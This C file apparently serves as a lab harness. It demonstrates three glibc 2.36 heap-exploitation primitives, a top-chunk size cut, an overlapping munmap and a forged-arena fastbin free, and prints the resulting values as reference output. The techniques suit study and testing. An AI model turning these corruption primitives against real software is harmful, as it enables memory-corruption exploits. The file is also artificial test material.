/* Three glibc 2.36 paths a lab script reaches by corrupting chunk headers, printed for the model to match:
 *   tangerine  the top's size cut to its page: sysmalloc meets a break it did not expect, fenceposts the old
 *              top and frees it, and starts a new top at the break
 *   munmap     a mmapped chunk's size forged to span its neighbour: free unmaps both, a new mapping overlaps
 *   mind       a NON_MAIN_ARENA chunk whose heap_info names an arena forged in the heap: free puts the chunk
 *              into that arena's fastbin
 * Each prints `name value` lines, heap addresses as heap+0x…, others absolute. Run under setarch -R. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static uintptr_t heap;
static const char *names[16];
static uintptr_t values[16];
static int count;

/* Values are kept until the end: stdio's buffer would come from the heap being looked at. */
static void at(const char *name, uintptr_t v) {
  names[count] = name;
  values[count++] = v;
}

static void print(void) {
  for (int i = 0; i < count; i++) {
    uintptr_t v = values[i];
    if (v >= heap && v < heap + 0x10000000) printf("%s heap+0x%lx\n", names[i], (unsigned long)(v - heap));
    else printf("%s 0x%lx\n", names[i], (unsigned long)v);
  }
}

static uint64_t word(uintptr_t a) { return *(volatile uint64_t *)a; }

/* Forging stores are volatile: the compiler may drop a store into memory that is freed next. */
static void poke(uintptr_t a, uint64_t v) { *(volatile uint64_t *)a = v; }

int main(int argc, char **argv) {
  heap = (uintptr_t)sbrk(0);
  if (argc < 2) return 2;
  if (!strcmp(argv[1], "tangerine")) {
    uintptr_t p = (uintptr_t)malloc(0x18);
    uintptr_t top = p + 0x10;
    poke(top + 8, word(top + 8) & 0xfff);   /* the top now ends on its page */
    uintptr_t q = (uintptr_t)malloc(0x1000);
    at("q", q);
    at("top_size", word(q + 0x1008));
    at("old_top_size", word(top + 8));
    at("old_top_fd", word(top + 16));
    size_t cut = word(top + 8) & ~7ul;
    at("fencepost1", word(top + cut + 8));
    at("fencepost2", word(top + cut + 24));
  } else if (!strcmp(argv[1], "munmap")) {
    free(malloc(0x18));
    uint64_t *a = malloc(0x100000);
    uint64_t *b = malloc(0x100000);
    uint64_t *c = malloc(0x100000);
    at("a", (uintptr_t)a);
    at("b", (uintptr_t)b);
    at("c", (uintptr_t)c);
    poke((uintptr_t)&c[-1], ((c[-1] & ~7ul) + (b[-1] & ~7ul)) | 2);   /* c spans b: one munmap takes both */
    free(c);
    uint64_t *d = malloc(0x300000);
    at("d", (uintptr_t)d);
    at("d_size", d[-1]);
  } else if (!strcmp(argv[1], "mind")) {
    const uintptr_t HEAP_MAX = 0x4000000;
    uint8_t *arena = malloc(0x1000);
    poke((uintptr_t)arena + 0x888, 0xffffff);        /* system_mem */
    uintptr_t info = ((uintptr_t)arena - 0x10 + HEAP_MAX) & ~(HEAP_MAX - 1);
    uint64_t *mem = malloc(0x1ff00);
    while ((uintptr_t)mem < info) mem = malloc(0x1ff00);
    uint64_t *victim = malloc(0x50);
    void *cached[7];
    for (int i = 0; i < 7; i++) cached[i] = malloc(0x50);
    for (int i = 0; i < 7; i++) free(cached[i]);
    poke(info, (uintptr_t)arena);
    uint64_t *chunk_ptr = victim - 2;
    poke((uintptr_t)&chunk_ptr[1], 0x60 | 4);
    free(victim);
    at("arena", (uintptr_t)arena);
    at("victim", (uintptr_t)chunk_ptr + 16);
    at("fastbin4", word((uintptr_t)arena + 0x30));
    at("have_fastchunks", word((uintptr_t)arena + 8) & 0xffffffff);
  }
  print();
  return 0;
}
